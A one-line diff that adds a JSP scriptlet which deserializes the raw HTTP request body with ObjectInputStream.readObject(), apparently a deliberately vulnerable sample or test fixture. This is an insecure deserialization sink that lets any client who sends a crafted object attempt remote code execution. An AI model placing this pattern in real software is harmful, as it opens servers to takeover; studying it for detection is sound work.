@@ -1,0 +1,1 @@
+<% new java.io.ObjectInputStream(request.getInputStream()).readObject(); %>
